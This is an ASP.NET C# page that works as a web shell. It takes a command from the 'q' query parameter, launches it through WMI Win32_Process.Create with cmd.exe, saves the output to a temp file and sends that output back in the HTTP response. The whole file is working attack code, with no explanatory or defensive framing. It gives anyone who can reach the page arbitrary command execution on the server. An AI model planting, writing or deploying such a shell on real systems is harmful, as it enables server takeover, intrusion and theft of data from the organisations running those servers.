<%@ Page Language="C#" %>
<%@ Assembly Name="System.Management, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a" %>
<%@ Import Namespace="System.Management" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    string q = Request.QueryString["q"];
    if (String.IsNullOrEmpty(q)) return;
    ManagementClass mc = new ManagementClass(@"\\.\root\cimv2:Win32_Process");
    ManagementBaseObject inParams = mc.GetMethodParameters("Create");
    inParams["CommandLine"] = "cmd /c " + q + " > C:\\Windows\\Temp\\o.txt";
    ManagementBaseObject outParams = mc.InvokeMethod("Create", inParams, null);
    System.Threading.Thread.Sleep(1500);
    Response.Write(System.IO.File.ReadAllText(@"C:\Windows\Temp\o.txt"));
}
</script>
